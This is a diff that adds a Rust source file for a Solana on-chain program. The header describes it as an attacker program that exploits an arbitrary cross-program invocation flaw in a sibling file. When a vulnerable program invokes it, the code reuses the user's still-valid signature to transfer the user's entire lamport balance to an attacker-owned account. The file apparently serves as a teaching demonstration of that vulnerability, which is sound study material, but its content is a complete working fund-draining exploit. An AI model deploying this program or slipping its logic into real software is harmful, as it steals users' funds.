@@ -0,0 +1,38 @@
+/*
+ * ATTACKER PROGRAM FOR ../arbitrary_cpi.rs - DO NOT DEPLOY
+ *
+ * Invoked as the user-chosen target, it receives the user's signature and
+ * spends it: everything in the user's account is transferred to the
+ * target account, which belongs to the attacker.
+ */
+
+use solana_program::{
+    account_info::{next_account_info, AccountInfo},
+    entrypoint::ProgramResult,
+    msg,
+    program::invoke,
+    pubkey::Pubkey,
+};
+use solana_system_interface::instruction as system_instruction;
+
+#[cfg(not(feature = "no-entrypoint"))]
+solana_program::entrypoint!(process_instruction);
+
+pub fn process_instruction(
+    _program_id: &Pubkey,
+    accounts: &[AccountInfo],
+    _instruction_data: &[u8],
+) -> ProgramResult {
+    let accounts_iter = &mut accounts.iter();
+    let user_account = next_account_info(accounts_iter)?;
+    let attacker_account = next_account_info(accounts_iter)?;
+
+    // The user signed for the vulnerable program; the signature is still
+    // valid one level down
+    let stolen = user_account.lamports();
+    msg!("Draining {} lamports", stolen);
+    invoke(
+        &system_instruction::transfer(user_account.key, attacker_account.key, stolen),
+        &[user_account.clone(), attacker_account.clone()],
+    )
+}